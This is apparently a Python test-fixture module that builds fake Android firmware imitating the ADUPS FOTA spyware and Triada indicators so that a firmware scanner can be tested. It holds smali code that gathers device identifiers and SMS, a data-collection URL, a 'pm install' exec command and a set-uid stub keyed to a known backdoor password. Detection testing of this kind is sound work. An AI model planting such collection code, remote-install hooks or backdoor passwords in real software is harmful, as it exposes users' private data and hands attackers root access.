"""ADUPS-like and backdoor-like test firmware, built from the public indicators with real toolchains.

Apps are real APKs (aapt manifest, smali-assembled classes.dex, apksigner signature) from tests/firmware_build.py;
native binaries are real ELF files built with gcc (never run); set-uid bits are real file modes. Nothing here is
malware: the code only *refers* to the APIs and strings the rules look for, as the ADUPS client did.

- ``adups_apk(work)``: com.adups.fota as described by Kryptowire/Malwarebytes (system uid, SMS/call log/contacts/
  identifiers + HTTP + SMS sending, pm install via Runtime.exec, DES, bigdata.adups.com, exported receiver).
- ``benign_apk(work)``: an ordinary calculator-like app with no risky capability.
- ``firmware_tree(root, work)``: system/ with build.prop (ro.adups.fota.*, test-keys), framework-res.apk signed with
  the same "platform" key as the ADUPS app, priv-app/AdupsFota, app/Calculator, bin/fotabinder (ELF), set-uid root
  bin/sync_agent (ELF holding the CVE-2012-2949 password), the FWUpgradeInit.rc init script and a framework JAR
  named like the Triada payload (mms-core.jar) whose code names libcnfgp.so.
Builders are memoised per work folder: each APK/ELF is built once per test session.

- ``odex_firmware(root, work)``: the same ADUPS app, odexed: the APK has no classes.dex and the dex sits inside an
  ELF oat/arm64/AdupsFota.odex, as on pre-optimised firmware.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import zipfile
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from firmware_build import assemble_dex, build_apk, have_toolchain, manifest_xml

PLATFORM_CN = "Fixture Platform"
ADUPS_PERMISSIONS = (
    "android.permission.READ_SMS",
    "android.permission.RECEIVE_SMS",
    "android.permission.SEND_SMS",
    "android.permission.READ_CALL_LOG",
    "android.permission.READ_CONTACTS",
    "android.permission.READ_PHONE_STATE",
    "android.permission.ACCESS_FINE_LOCATION",
    "android.permission.INTERNET",
    "android.permission.INSTALL_PACKAGES",
    "android.permission.DELETE_PACKAGES",
    "android.permission.REBOOT",
)

ADUPS_SMALI = r""".class public Lcom/adups/fota/base/Collector;
.super Ljava/lang/Object;

.method public static collect(Landroid/content/Context;)V
    .registers 8
    const-string v0, "phone"
    invoke-virtual {p0, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getSubscriberId()Ljava/lang/String;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getLine1Number()Ljava/lang/String;
    sget-object v1, Landroid/provider/CallLog$Calls;->CONTENT_URI:Landroid/net/Uri;
    const-string v2, "content://sms/inbox"
    const-string v3, "dc_msg_key.json"
    new-instance v4, Ljava/net/URL;
    const-string v5, "http://bigdata.adups.com/fota5/collect.do"
    invoke-direct {v4, v5}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v4}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v4
    check-cast v4, Ljava/net/HttpURLConnection;
    const-string v5, "DES/ECB/PKCS5Padding"
    invoke-static {v5}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    return-void
.end method

.method public static forward(Ljava/lang/String;)V
    .registers 7
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "10086"
    const/4 v2, 0x0
    move-object v3, v2
    move-object v4, v2
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method

.method public static install(Ljava/lang/String;)V
    .registers 4
    invoke-static {}, Ljava/lang/Runtime;->getRuntime()Ljava/lang/Runtime;
    move-result-object v0
    new-instance v1, Ljava/lang/StringBuilder;
    const-string v2, "pm install -r "
    invoke-direct {v1, v2}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1, p0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    invoke-virtual {v0, v1}, Ljava/lang/Runtime;->exec(Ljava/lang/String;)Ljava/lang/Process;
    invoke-static {}, Lcom/umeng/analytics/MobclickAgent;->onKillProcess()V
    return-void
.end method
"""

RECEIVER_SMALI = r""".class public Lcom/adups/fota/base/ServiceReceiver;
.super Landroid/content/BroadcastReceiver;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 3
    invoke-static {p1}, Lcom/adups/fota/base/Collector;->collect(Landroid/content/Context;)V
    return-void
.end method
"""

BENIGN_SMALI = r""".class public Lorg/example/calc/Main;
.super Landroid/app/Activity;

.method public add(II)I
    .registers 4
    add-int v0, p1, p2
    return v0
.end method
"""

TRIADA_SMALI = r""".class public Lcom/android/internal/mms/Core;
.super Ljava/lang/Object;

.method public static load()V
    .registers 1
    const-string v0, "libcnfgp.so"
    invoke-static {v0}, Ljava/lang/System;->loadLibrary(Ljava/lang/String;)V
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    return-void
.end method
"""

FOTABINDER_C = r"""
#include <stdio.h>
/* Strings modelled on the public fotabinder write-up: the socket it serves and the RC4 key. */
const char *sock = "/dev/socket/fota";
const char *key = "system";
const char *host = "rebootv5.adsunflower.com";
int main(void) { puts(sock); puts(key); puts(host); return 0; }
"""

SYNC_AGENT_C = r"""
#include <stdio.h>
#include <string.h>
int main(int argc, char **argv) {
    if (argc > 1 && strcmp(argv[1], "ztex1609523") == 0) puts("would open a root shell");
    return 0;
}
"""

FWUPGRADE_RC = """# FOTA integration (modelled on the public GetSuperSerial write-up)
service fotabinder /system/bin/fotabinder
    class main
    socket fota stream 600 system system
"""

BUILD_PROP = """# begin build properties
ro.build.id=FIXTURE.001
ro.build.display.id=FIXTURE-R1-HD-2016
ro.build.type=user
ro.build.tags=test-keys
ro.build.fingerprint=FixtureBrand/r1hd/r1hd:6.0/FIXTURE.001/1:user/test-keys
ro.product.model=Fixture R1 HD
ro.product.brand=FixtureBrand
# begin adupsfota properties
ro.adups.fota.oem=fixture
ro.adups.fota.device=Fixture R1 HD
ro.adups.fota.version=FIXTURE-R1-HD-2016
# end adupsfota properties
"""


def need_tools() -> None:
    if not (have_toolchain() and shutil.which("gcc") and shutil.which("objcopy")):
        pytest.skip(
            "needs aapt, smali, apksigner, keytool, android-framework-res, gcc and objcopy (scripts/test-setup)"
        )


@cache
def adups_apk(work: Path, version: int = 1, with_dex: bool = True, sms: bool = True) -> Path:
    manifest = manifest_xml(
        "com.adups.fota",
        version_code=version,
        version_name=f"5.{version}",
        shared_user_id="android.uid.system",
        uses_permissions=ADUPS_PERMISSIONS if sms else ADUPS_PERMISSIONS[3:],
        application={"persistent": "true", "usesCleartextTraffic": "true", "label": "Wireless Update"},
        components=[
            (
                "receiver",
                "com.adups.fota.base.ServiceReceiver",
                {"exported": "true"},
                ["android.intent.action.BOOT_COMPLETED"],
            ),
            ("service", "com.adups.fota.FotaService", {"exported": "true"}, ["com.adups.fota.INSTALL_NOW"]),
            ("activity", "com.adups.fota.MainActivity", {"exported": "false"}, []),
        ],
    )
    smali = {
        "com/adups/fota/base/Collector.smali": ADUPS_SMALI,
        "com/adups/fota/base/ServiceReceiver.smali": RECEIVER_SMALI,
    }
    if not sms:
        smali = {
            "com/adups/fota/base/ServiceReceiver.smali": RECEIVER_SMALI.replace(
                "invoke-static {p1}, Lcom/adups/fota/base/Collector;->collect(Landroid/content/Context;)V\n", ""
            )
        }
    apk = build_apk(work, manifest, smali, cn=PLATFORM_CN, name=f"AdupsFota-{version}-{int(sms)}")
    if with_dex:
        return apk
    return strip_dex(apk, work / f"AdupsFota-{version}-nodex.apk")


def strip_dex(apk: Path, out: Path) -> Path:
    """The APK as odexed firmware ships it: same entries and signature files, no classes.dex."""
    with zipfile.ZipFile(apk) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "classes.dex":
                dst.writestr(info, src.read(info))
    return out


def dex_of(apk: Path) -> bytes:
    with zipfile.ZipFile(apk) as z:
        return z.read("classes.dex")


@cache
def benign_apk(work: Path) -> Path:
    manifest = manifest_xml(
        "org.example.calc",
        components=[("activity", "org.example.calc.Main", {"exported": "true"}, ["android.intent.action.MAIN"])],
    )
    return build_apk(work, manifest, {"org/example/calc/Main.smali": BENIGN_SMALI}, cn="Calc Developer", name="Calc")


@cache
def framework_res(work: Path) -> Path:
    """A stand-in framework-res.apk (package "android") signed with the fixture platform key."""
    manifest = manifest_xml("android", shared_user_id="android.uid.system")
    return build_apk(work, manifest, None, cn=PLATFORM_CN, name="framework-res")


@cache
@cache
def triada_jar(work: Path) -> Path:
    """A framework JAR named like the Triada payload, whose code names the Triada library (never loaded here)."""
    dex = assemble_dex({"com/android/internal/mms/Core.smali": TRIADA_SMALI}, work / "triada")
    out = work / "mms-core.jar"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("classes.dex", dex)
    return out


@cache
def elf(work: Path, name: str, source: str) -> Path:
    src = work / f"{name}.c"
    src.write_text(source)
    out = work / name
    subprocess.run(["gcc", "-O0", "-o", str(out), str(src)], check=True, capture_output=True)
    return out


@cache
def odex(work: Path, dex: bytes, name: str) -> Path:
    """An ELF shared object with the dex embedded in a section, as ART's OAT .odex files carry it."""
    src = work / f"{name}.c"
    src.write_text("int oatdata = 1;\n")
    out = work / f"{name}.odex"
    raw = work / f"{name}.dex"
    raw.write_bytes(dex)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(out), str(src)], check=True, capture_output=True)
    subprocess.run(
        [
            "objcopy",
            "--add-section",
            f".rodata.oatdex={raw}",
            "--set-section-flags",
            ".rodata.oatdex=alloc,readonly",
            str(out),
        ],
        check=True,
        capture_output=True,
    )
    return out


def _put(src: Path, dst: Path, mode: int = 0o644) -> None:
    dst.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(src, dst)
    os.chmod(dst, mode)


def firmware_tree(root: Path, work: Path, adups: bool = True, build_prop: str = BUILD_PROP) -> Path:
    system = root / "system"
    (system / "bin").mkdir(parents=True, exist_ok=True)
    (system / "build.prop").write_text(build_prop if adups else build_prop.split("# begin adupsfota")[0])
    _put(framework_res(work), system / "framework" / "framework-res.apk")
    _put(benign_apk(work), system / "app" / "Calculator" / "Calculator.apk")
    if adups:
        _put(adups_apk(work), system / "priv-app" / "AdupsFota" / "AdupsFota.apk")
        _put(elf(work, "fotabinder", FOTABINDER_C), system / "bin" / "fotabinder", 0o755)
        _put(elf(work, "sync_agent", SYNC_AGENT_C), system / "bin" / "sync_agent", 0o4755)
        (root / "FWUpgradeInit.rc").write_text(FWUPGRADE_RC)
        (root / "init.rc").write_text(
            "import /init.environ.rc\nimport /FWUpgradeInit.rc\n\non early-init\n    start ueventd\n"
        )
        _put(triada_jar(work), system / "framework" / "mms-core.jar")
    return root


def odex_firmware(root: Path, work: Path) -> Path:
    system = root / "system"
    (system / "bin").mkdir(parents=True, exist_ok=True)
    (system / "build.prop").write_text(BUILD_PROP.replace("test-keys", "release-keys"))
    _put(framework_res(work), system / "framework" / "framework-res.apk")
    full = adups_apk(work)
    _put(strip_dex(full, work / "AdupsFota-odexed.apk"), system / "priv-app" / "AdupsFota" / "AdupsFota.apk")
    _put(odex(work, dex_of(full), "AdupsFota"), system / "priv-app" / "AdupsFota" / "oat" / "arm64" / "AdupsFota.odex")
    return root


def cli(*args: str | Path) -> tuple[int, dict[str, Any]]:
    """`bansweep ARGS` in a new process: its exit code and its JSON report."""
    proc = subprocess.run(
        [sys.executable, "-m", "bansweep", *map(str, args)], capture_output=True, text=True, timeout=300
    )
    assert proc.stdout.strip(), proc.stderr
    return proc.returncode, json.loads(proc.stdout)
